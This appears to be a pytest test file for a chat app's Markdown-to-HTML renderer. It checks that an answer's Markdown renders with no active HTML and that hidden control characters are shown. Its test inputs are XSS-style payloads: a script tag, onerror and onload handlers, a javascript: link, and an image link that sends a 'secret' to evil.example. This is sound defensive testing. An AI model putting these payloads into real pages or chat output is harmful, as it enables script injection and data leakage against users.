"""Markdown of an answer becomes HTML that cannot act."""

from __future__ import annotations

import re

import pytest

from pivo.chat.render import html


@pytest.mark.parametrize(
    "markdown",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![leak](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "[click](https://evil.example)",
        "<https://evil.example>",
        "[ref][x]\n\n[x]: https://evil.example",
        "`</code><script>`",
        "| a | b |\n|---|---|\n| <svg onload=x> | y |",
    ],
)
def test_nothing_active_is_rendered(markdown: str) -> None:
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z]+)", html(markdown)))
    assert tags <= {"p", "code", "strong", "em", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "pre"}
    assert not re.search(r"<[^>]*\b(src|href|on\w+)\s*=", html(markdown))


def test_what_an_answer_needs_is_rendered() -> None:
    assert html("**Ada** in `a1b2`") == "<p><strong>Ada</strong> in <code>a1b2</code></p>\n"
    assert "<table>" in html("| a |\n|---|\n| b |")


def test_hidden_characters_show() -> None:
    assert "\\u202e" in html("abc\u202edef")
    assert "\\x1b" in html("\x1b]0;title\x07")
